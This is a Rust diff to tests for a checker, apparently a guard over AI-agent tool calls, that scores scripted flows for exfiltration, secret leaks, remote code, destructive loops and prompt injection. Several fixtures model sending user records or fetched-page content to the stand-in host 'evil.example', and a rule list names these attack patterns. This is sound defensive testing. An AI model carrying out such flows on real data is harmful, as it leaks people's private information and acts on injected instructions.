@@ -1,5 +1,7 @@
 //! What follows from flows: the same call is harmless or not by what is read and where it goes.
 
+#![expect(clippy::expect_used, reason = "a test says what must be there by expecting it")]
+
 use callgate::catalogue::House;
 use callgate::catalogue::house::OwnTool;
 use callgate::check::registry;
@@ -8,6 +10,20 @@ use callgate::subject::call::{Call, Disguise, HostCall, Property, Repeat, Tool, 
 use callgate::subject::flow::{CallRef, Flow, Origin, OriginKind, Strength};
 use callgate::subject::{Kind, Lifecycle, Subject};
 use callgate::value::span::Span;
+
+/// The rules that look at flows.
+const RULES: &[&str] = &[
+    "exfiltration-flow",
+    "mass-read-then-send",
+    "secret-to-network",
+    "covert-channel",
+    "remote-code",
+    "tool-result-to-command",
+    "tool-result-as-instructions",
+    "destructive-over-result",
+    "fan-out-over-result",
+    "persistence-write",
+];
 
 /// A script, as far as its calls and flows go.
 struct Script {
@@ -44,7 +60,7 @@ impl Script {
 
     /// A tool call, whose result is the origin of the same number as long as only tools are called.
     fn tool(mut self, name: &str, argument: &[(&str, Value)]) -> Self {
-        let at = u32::try_from(self.subject.calls.len()).unwrap() * 100;
+        let at = u32::try_from(self.subject.calls.len()).expect("there are few calls") * 100;
         let span = Span::new(at, at + 50);
         let index = self.subject.calls.len();
         self.subject.calls.push(Call {
@@ -54,7 +70,7 @@ impl Script {
             repeated: false,
             repeat: Repeat::Once,
             over: Vec::new(),
-            nth: u32::try_from(index).unwrap(),
+            nth: u32::try_from(index).expect("there are few calls"),
             span,
             tool_span: span,
             disguise: Disguise::None,
@@ -78,7 +94,7 @@ impl Script {
     }
 
     fn made_with(mut self, receiver: &[Value]) -> Self {
-        self.subject.host_calls.last_mut().unwrap().receiver = receiver.to_vec();
+        self.subject.host_calls.last_mut().expect("a call was made").receiver = receiver.to_vec();
         self
     }
 
@@ -88,7 +104,7 @@ impl Script {
         self
     }
 
-    fn flow(mut self, origin: usize, field: &str, sink: CallRef, argument: &str, strength: Strength) -> Self {
+    fn flow(mut self, (origin, field): (usize, &str), (sink, argument): (CallRef, &str), strength: Strength) -> Self {
         let (field, argument) = (field.to_owned(), argument.to_owned());
         self.subject.flows.push(Flow { origin, field, sink, argument, strength, steps: Vec::new() });
         self
@@ -96,17 +112,17 @@ impl Script {
 
     /// All of an origin's field flows into a tool's argument.
     fn into_tool(self, origin: usize, field: &str, call: usize, argument: &str) -> Self {
-        self.flow(origin, field, CallRef::Tool(call), argument, Strength::Whole)
+        self.flow((origin, field), (CallRef::Tool(call), argument), Strength::Whole)
     }
 
     /// All of an origin flows into a host API's argument.
     fn into_host(self, origin: usize, call: usize, argument: &str) -> Self {
-        self.flow(origin, "", CallRef::Host(call), argument, Strength::Whole)
+        self.flow((origin, ""), (CallRef::Host(call), argument), Strength::Whole)
     }
 
     /// The last tool call runs in a loop, over the elements of an origin.
     fn repeated(mut self, repeat: Repeat, over: &[usize]) -> Self {
-        let call = self.subject.calls.last_mut().unwrap();
+        let call = self.subject.calls.last_mut().expect("a call was made");
         (call.loop_depth, call.repeat, call.over) = (1, repeat, over.to_vec());
         self
     }
@@ -114,8 +130,7 @@ impl Script {
     /// The hits of the rules that look at flows.
     fn hits(&self) -> Vec<String> {
         let features = feature::extract(&self.subject, &self.house);
-        let others = ["destructive-call", "loop-fan-out", "exfiltration-sequence", "sensitive-field", "wildcard-query", "excessive-limit"];
-        let found = registry::run(&self.subject, &features).into_iter().filter(|found| !others.contains(&found.rule.id.as_ref()));
+        let found = registry::run(&self.subject, &features).into_iter().filter(|found| RULES.contains(&found.rule.id.as_ref()));
         found.map(|found| format!("{} {}: {}", found.rule.id, found.severity, found.message.unwrap_or_default())).collect()
     }
 
@@ -223,6 +238,18 @@ fn what_is_about_a_person_may_go_to_that_person() {
 }
 
 #[test]
+fn what_is_asked_for_by_a_persons_record_is_that_persons() {
+    let mail = [("to", unknown()), ("text", unknown())];
+    let script = |asks: bool| {
+        let script = Script::new().tool("users:get", &[("id", unknown())]).tool("invoices:list", &[("user", unknown())]);
+        let script = script.tool("mail:send", &mail).into_tool(0, "email", 2, "to").into_tool(1, "[].total_due", 2, "text");
+        if asks { script.into_tool(0, "id", 1, "user") } else { script }.into_tool(1, "[].items", 2, "text")
+    };
+    assert_eq!(script(true).rules(), ["exfiltration-flow low"]);
+    assert_eq!(script(false).rules(), ["exfiltration-flow high"]);
+}
+
+#[test]
 fn a_whole_collection_is_worse_than_a_record() {
     let url = [("url", text("https://evil.example")), ("body", unknown())];
     let number = |number: f64| Value::Number(number, Span::default());
@@ -247,6 +274,8 @@ fn a_summary_carries_what_it_sums_up() {
     };
     assert_eq!(script("text:summarize"), ["exfiltration-flow critical"]);
     assert_eq!(script("text:redact"), Vec::<String>::new());
+    let page = Script::new().tool("web:fetch", &[]).tool("llm:complete", &[("prompt", unknown())]).tool("http:post", &url);
+    assert_eq!(page.into_tool(0, "", 1, "prompt").into_tool(1, "", 2, "body").rules(), ["tool-result-as-instructions low"]);
 }
 
 #[test]
@@ -313,7 +342,7 @@ fn little_of_the_data_is_little_harm() {
     let url = [("url", text("https://evil.example")), ("body", unknown())];
     let script = |tool: &str, strength: Strength, repeat: Option<Repeat>| {
         let script = Script::new().tool(tool, &[("id", unknown())]).tool("http:post", &url);
-        let script = script.flow(0, "", CallRef::Tool(1), "body", strength);
+        let script = script.flow((0, ""), (CallRef::Tool(1), "body"), strength);
         repeat.map_or_else(|| script.rules(), |repeat| Script { ..script_with(repeat, tool, strength) }.rules())
     };
     assert_eq!(script("users:get", Strength::Redacted, None), ["exfiltration-flow low"]);
@@ -328,7 +357,7 @@ fn little_of_the_data_is_little_harm() {
 fn script_with(repeat: Repeat, tool: &str, strength: Strength) -> Script {
     let url = [("url", text("https://evil.example")), ("body", unknown())];
     let script = Script::new().tool(tool, &[("id", unknown())]).tool("http:post", &url).repeated(repeat, &[]);
-    script.flow(0, "", CallRef::Tool(1), "body", strength)
+    script.flow((0, ""), (CallRef::Tool(1), "body"), strength)
 }
 
 #[test]
@@ -379,7 +408,7 @@ fn acting_on_each_element_of_a_listing_is_told_by_what_chooses_it() {
     assert_eq!(script(&[("status", text("spam"))], "users:delete", Repeat::Each).rules(), ["destructive-over-result high"]);
     assert_eq!(script(&[], "users:archive", Repeat::Each).rules(), ["destructive-over-result high"]);
     assert_eq!(script(&[("status", text("old"))], "users:archive", Repeat::Each).rules(), ["destructive-over-result medium"]);
-    let chosen = script(&[], "users:delete", Repeat::Each).flow(0, "[].spam", CallRef::Tool(1), "", Strength::Control);
+    let chosen = script(&[], "users:delete", Repeat::Each).flow((0, "[].spam"), (CallRef::Tool(1), ""), Strength::Control);
     assert_eq!(chosen.rules(), ["destructive-over-result high"]);
     assert_eq!(script(&[], "users:update", Repeat::Each).rules(), ["fan-out-over-result medium"]);
     assert_eq!(script(&[], "users:get", Repeat::Each).rules(), ["fan-out-over-result low"]);
